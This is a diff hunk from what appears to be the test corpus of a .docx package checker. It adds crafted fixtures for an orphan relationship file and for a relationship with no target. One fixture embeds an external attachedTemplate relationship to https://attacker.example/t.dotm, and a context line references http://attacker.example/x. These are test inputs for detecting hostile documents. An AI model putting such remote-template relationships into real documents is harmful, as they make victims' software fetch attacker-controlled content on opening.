@@ -330,6 +330,12 @@ def corpus() -> list[tuple[str, bytes, str]]:
             "</Relationships>", f'<x:Relationship xmlns:x="urn:other" Id="rId9" Type="{R}/image" '
                                 f'Target="http://attacker.example/x" TargetMode="External"/></Relationships>')}),
          EXTERNAL),
+        ("external template in a .rels nothing reaches", with_entries(BASE, [(
+            "word/_rels/orphan.xml.rels", f'<Relationships xmlns="{PACKAGE_R}"><Relationship Id="rId1" '
+            f'Type="{R}/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/>'
+            "</Relationships>")]), "The file is attached to a template"),
+        ("relationship without a target", repack(put={"_rels/.rels": PACKAGE_RELS.replace(
+            "</Relationships>", f'<Relationship Id="rId9" Type="{R}/image"/></Relationships>')}), DAMAGED),
         ("sub-document", _document_rel(f"{R}/subDocument", "sub.docx", parts={"word/sub.docx": BASE}), ACCEPTS),
         ("altChunk (imported HTML)", _document_rel(f"{R}/aFChunk", "afchunk.mht", parts={"word/afchunk.mht": "<x/>"},
                                                    types=(default("mht", "message/rfc822"),)), ACCEPTS),
